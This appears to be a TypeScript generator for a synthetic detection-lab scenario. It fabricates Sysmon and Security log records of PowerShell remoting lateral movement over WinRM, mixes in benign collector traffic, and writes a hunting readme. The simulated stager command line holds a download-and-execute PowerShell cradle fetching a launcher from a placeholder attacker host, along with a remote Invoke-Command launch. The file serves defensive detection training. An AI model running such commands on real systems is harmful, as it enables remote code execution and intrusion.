// AN0327 lab story: PowerShell remoting (WinRM 5985) from WORKSTATION5 into WORKSTATION6,
// where wsmprovhost.exe spawns an encoded PowerShell stager. The WEC collector's regular
// WinRM pulls are the benign look-alike: inbound 5985 with no suspicious child.
import { IMAGES, LAB } from '../lab';
import { benignNoise, makeProc } from '../noise';
import type { Random } from '../random';
import type { Scenario, WinRecord } from '../records';
import { securityLogon, securityWfpConnection, sysmonNetworkConnect, sysmonProcessCreate } from '../windows';
import { encodedCommand, readme } from './common';

export function an0327(rng: Random, start: number): Scenario {
  const { ws5, ws6, wec } = LAB;
  const attack = start + 75 * 60_000;
  const records: WinRecord[] = [
    ...benignNoise(rng, ws5, start, start + 2 * 3600_000, 60, true),
    ...benignNoise(rng, ws6, start, start + 2 * 3600_000, 90, true),
  ];
  const system = { guid: `{${ws6.guidPrefix}-e863-5f64-eb03-000000000000}`, pid: 4, image: IMAGES.system, commandLine: '', user: 'NT AUTHORITY\\SYSTEM' };
  // The collector pulls events every 20 minutes: inbound 5985 handled by HTTP.sys (System).
  for (let t = start + 5 * 60_000; t < start + 2 * 3600_000; t += 20 * 60_000) {
    if (Math.abs(t - attack) < 15 * 60_000) continue;
    const flow = { protocol: 'tcp' as const, srcIp: wec.ip, srcPort: rng.int(49152, 65535), dstIp: ws6.ip, dstPort: 5985 };
    records.push(sysmonNetworkConnect(t, ws6, system, { ...flow, initiated: false }), securityWfpConnection(t, ws6, 5156, 4, IMAGES.system, true, flow));
  }
  const admin = `${LAB.domain}\\${LAB.users.admin}`;
  const explorer5 = makeProc(rng, ws5, IMAGES.explorer, 'C:\\Windows\\Explorer.EXE', admin);
  const ps5 = makeProc(rng, ws5, IMAGES.powershell, `"${IMAGES.powershell}" -c "Invoke-Command -ComputerName WORKSTATION6 -ScriptBlock { Start-Process powershell -ArgumentList '-noP -sta -w 1 -enc ...' }"`, admin);
  const flow = { protocol: 'tcp' as const, srcIp: ws5.ip, srcPort: 56608, dstIp: ws6.ip, dstPort: 5985 };
  const dcomLaunch = makeProc(rng, ws6, IMAGES.svchost, 'C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p');
  const wsmprovhost = makeProc(rng, ws6, IMAGES.wsmprovhost, 'C:\\Windows\\system32\\wsmprovhost.exe -Embedding', admin);
  const stager = makeProc(rng, ws6, IMAGES.powershell, `"${IMAGES.powershell}" -noP -sta -w 1 -enc ${encodedCommand(`IEX (New-Object Net.WebClient).DownloadString('http://${LAB.attacker}/launcher.ps1')`)}`, admin);
  records.push(
    sysmonProcessCreate(attack - 40_000, ws5, ps5, explorer5, { integrity: 'High', logonId: '0x2990d17' }),
    sysmonNetworkConnect(attack, ws5, ps5, { ...flow, initiated: true }),
    sysmonNetworkConnect(attack + 12, ws6, system, { ...flow, initiated: false }),
    securityWfpConnection(attack + 12, ws6, 5156, 4, IMAGES.system, true, flow),
    securityLogon(attack + 180, ws6, LAB.users.admin, 3, '-', 0, '0x2990d17'),
    sysmonProcessCreate(attack + 1_420, ws6, wsmprovhost, dcomLaunch, { integrity: 'High', logonId: '0x2990d17' }),
    sysmonProcessCreate(attack + 3_870, ws6, stager, wsmprovhost, { integrity: 'High', logonId: '0x2990d17' }),
    sysmonNetworkConnect(attack + 5_020, ws6, stager, { protocol: 'tcp', initiated: true, srcIp: ws6.ip, srcPort: 56731, dstIp: LAB.attacker, dstPort: 80 }),
  );
  return {
    folder: 'AN0327-winrm-lateral-movement',
    analytic: 'AN0327',
    files: [{ path: 'theshire-winrm.json', format: 'nxlog-ndjson', records }],
    expected: { host: 'WORKSTATION6', keyEvent: 'wsmprovhost.exe' },
    readme: readme({
      title: 'AN0327 — PowerShell remoting into WORKSTATION6',
      story: [
        `The help-desk admin account \`${LAB.users.admin}\` was phished. From WORKSTATION5 (${ws5.ip}) the attacker runs`,
        '`Invoke-Command -ComputerName WORKSTATION6`, which reaches WinRM on TCP 5985. On WORKSTATION6 the WinRM plugin',
        'host `wsmprovhost.exe` starts an encoded PowerShell stager that downloads a launcher from the C2 server',
        `${LAB.attacker}. Around it: two hours of ordinary activity on both workstations, and the WEC collector`,
        `(${wec.ip}) pulling events over WinRM every 20 minutes — inbound 5985 with nothing suspicious after it.`,
      ],
      files: ['`theshire-winrm.json` — NXLog NDJSON export (Sysmon and Security channels, both workstations).'],
      chain: [
        'step 1 (access): inbound TCP 5985 on WORKSTATION6 from 172.18.39.5 (Sysmon 3 and Security 5156, `Direction %%14592`);',
        'step 2 (effect, kind *child*): `wsmprovhost.exe` starting `powershell.exe -noP -sta -w 1 -enc ...` (Sysmon 1).',
        'The collector\'s 5985 pulls form no chain: nothing a remote-execution host starts follows them, and WORKSTATION6\'s',
        'routine domain traffic (svchost.exe or lsass.exe to the DC on 135/445) is not onward movement.',
        `A good exercise: copy AN0327.hunt into the workspace, add a child of wsmprovhost.exe after a pull, and add the collector ${wec.ip} to \`admin_sources\`.`,
      ],
    }),
  };
}
